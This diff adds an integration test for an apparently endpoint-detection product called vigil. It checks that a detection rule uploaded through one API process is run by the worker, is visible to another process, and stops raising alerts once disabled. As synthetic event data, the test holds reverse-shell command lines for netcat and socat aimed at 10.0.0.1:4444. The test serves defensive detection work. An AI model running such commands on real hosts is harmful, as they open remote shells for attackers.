@@ -1,0 +1,136 @@
+// What the API processes of a scaled deployment share, end to end: `vigil server` (ingest, worker and API in
+// one process) and a second `vigil api` process on NATS JetStream (a private namespace on the shared server),
+// the ClickHouse HTTP fixture and a fresh PostgreSQL database; a simulated agent streams through the ingest.
+// Rules: a rule uploaded through the second API process is run by the worker (its alert is raised) and listed
+// by the other API process; switched off, later matching events raise nothing.
+
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import pg from 'pg';
+import { SimulatedAgent } from '../../src/agent/simulator.ts';
+import { JetStreamBus } from '../../src/bus/jetstream.ts';
+import { alertId } from '../../src/detect/alerts.ts';
+import { ApiKeys } from '../../src/identity/api-key.ts';
+import { loadOrCreateCa } from '../../src/pki/pki.ts';
+import { issueEnrollmentToken } from '../../src/server/enrollment-tokens.ts';
+import { openPostgresIdentityStore } from '../../src/stores/identity/postgres.ts';
+import { PostgresMetadataStore } from '../../src/stores/metadata/postgres.ts';
+import { spawnClickHouseFixture } from '../fixtures/clickhouse-http-server.ts';
+import { freePort, spawnRole, stopProcess, type RoleProcess } from '../fixtures/vigil-roles.ts';
+import { until } from '../response/helpers.ts';
+
+const NATS = 'nats://127.0.0.1:4222';
+const PG_ADMIN = { host: '127.0.0.1', port: 5432, user: 'postgres', database: 'postgres' };
+const namespace = `sha${randomBytes(4).toString('hex')}`;
+const database = `vigil_test_shared_${randomBytes(6).toString('hex')}`;
+const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
+const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
+const SOCAT = { executable: '/usr/bin/socat', args: ['socat', 'tcp:10.0.0.1:4444', 'exec:/bin/sh'] };
+const CUSTOM = '3e0c9a51-5e7b-4f0e-9d2a-5c0c00000001';
+const CUSTOM_RULE = `title: socat shell (uploaded)
+id: ${CUSTOM}
+level: high
+logsource: { category: process_creation, product: linux }
+detection:
+  sel: { Image: /usr/bin/socat }
+  condition: sel
+`;
+
+async function pgAdmin(sql: string): Promise<void> {
+  const c = new pg.Client(PG_ADMIN);
+  await c.connect();
+  try { await c.query(sql); } finally { await c.end(); }
+}
+
+let dir: string;
+let clickhouse: Awaited<ReturnType<typeof spawnClickHouseFixture>>;
+const running: RoleProcess[] = [];
+
+before(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'vigil-shared-api-'));
+  await pgAdmin(`CREATE DATABASE ${database}`);
+  clickhouse = await spawnClickHouseFixture(join(dir, 'clickhouse'));
+  mkdirSync(join(dir, 'pki'), { mode: 0o700 });
+});
+
+after(async () => {
+  for (const p of running) await stopProcess(p.child, 'SIGKILL');
+  await clickhouse?.stop();
+  await JetStreamBus.deleteStreams(NATS, namespace);
+  await pgAdmin(`DROP DATABASE IF EXISTS ${database} WITH (FORCE)`);
+  rmSync(dir, { recursive: true, force: true });
+});
+
+async function role(args: string[]): Promise<RoleProcess> {
+  const p = await spawnRole(args, {
+    ...process.env, VIGIL_NATS_URL: NATS, VIGIL_BUS_NAMESPACE: namespace, VIGIL_CLICKHOUSE_URL: clickhouse.url,
+    VIGIL_POSTGRES_URL: `postgres://postgres@127.0.0.1:5432/${database}`, VIGIL_PKI_DIR: join(dir, 'pki'),
+    VIGIL_ARTIFACTS_DIR: join(dir, 'artifacts'), VIGIL_HEALTH: '127.0.0.1:0', VIGIL_LOG_LEVEL: 'warn',
+  });
+  running.push(p);
+  return p;
+}
+
+/** The revision of the shared rule state a process's role runs (from its /metrics). */
+async function ruleRevision(p: RoleProcess, roleName: string): Promise<number> {
+  const text = await (await fetch(`http://${p.addresses.health}/metrics`)).text();
+  return Number(new RegExp(`^vigil_rule_state_revision\\{role="${roleName}"\\} (\\d+)$`, 'm').exec(text)?.[1] ?? -1);
+}
+
+test('shared API state across processes: rule changes', { timeout: 90_000 }, async () => {
+  const grpc = `127.0.0.1:${await freePort()}`;
+  const server = await role(['server', '--grpc', grpc, '--http', '127.0.0.1:0']);
+  const api = await role(['api', '--http', '127.0.0.1:0']);
+
+  const pgUrl = `postgres://postgres@127.0.0.1:5432/${database}`;
+  const identity = await openPostgresIdentityStore({ connectionString: pgUrl });
+  const { key } = await new ApiKeys({ store: identity }).create({ tenantId: 'default', name: 'shared', role: 'admin', createdBy: 'test' });
+  await identity.close();
+  const metadata = new PostgresMetadataStore({ connectionString: pgUrl });
+  const { token } = await issueEnrollmentToken(metadata, 'default', 60_000, 1);
+  await metadata.close();
+  const agent = await SimulatedAgent.enroll(grpc, (await loadOrCreateCa(join(dir, 'pki'))).certPem, token, 'sim-shared');
+  agent.connect();
+
+  const call = async (via: RoleProcess, path: string, method = 'GET', body?: unknown) => {
+    const res = await fetch(`http://${via.addresses.http}/api/v1${path}`, {
+      method, body: body === undefined ? undefined : JSON.stringify(body),
+      headers: { authorization: `Bearer ${key}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    });
+    return { status: res.status, body: await res.json() as any };
+  };
+  const alertsOf = async (rule: string) => (await call(server, `/alerts?rule=${rule}&limit=100`)).body.alerts.map((a: { id: string }) => a.id) as string[];
+  /** Sends matching events and a netcat marker behind them; resolves once the marker's alert exists (the batch was run). */
+  const sendWithMarker = async (events: ReturnType<SimulatedAgent['syntheticEvents']>) => {
+    const marker = agent.syntheticEvents(1, NETCAT);
+    assert.equal((await agent.send([...events, ...marker])).accepted, events.length + 1);
+    await until('the marker alert', async () => (await alertsOf(NETCAT_RULE)).includes(alertId(NETCAT_RULE, [marker[0].event.id])) || undefined, 30_000);
+  };
+
+  try {
+    // Upload through the API process; the worker (in the server process) runs it.
+    const up = await call(api, '/rules', 'POST', { yaml: CUSTOM_RULE });
+    assert.equal(up.status, 201, JSON.stringify(up.body));
+    await until('the worker to run revision 1', async () => (await ruleRevision(server, 'worker')) >= 1 || undefined, 20_000);
+    assert.equal((await call(server, `/rules/${CUSTOM}`)).body.source, 'custom', 'the other API process lists it');
+    const shells = agent.syntheticEvents(2, SOCAT);
+    await sendWithMarker(shells);
+    assert.deepEqual((await alertsOf(CUSTOM)).sort(), shells.map((e) => alertId(CUSTOM, [e.event.id])).sort(), 'the uploaded rule raised its alerts');
+
+    // Switch it off: later matches raise nothing. (Through the same API process: the audit ledger has one
+    // writer, so a state-changing call through a second API process is refused: see docs/scaling.md.)
+    const off = await call(api, `/rules/${CUSTOM}/disable`, 'POST');
+    assert.equal(off.status, 200);
+    assert.equal(off.body.enabled, false);
+    await until('the worker to run revision 2', async () => (await ruleRevision(server, 'worker')) >= 2 || undefined, 20_000);
+    await until('the other API process to see it', async () => (await call(server, `/rules/${CUSTOM}`)).body.enabled === false || undefined, 20_000);
+    await sendWithMarker(agent.syntheticEvents(2, SOCAT));
+    assert.equal((await alertsOf(CUSTOM)).length, shells.length, 'no alert of a switched-off rule');
+  } finally {
+    agent.close();
+  }
+});
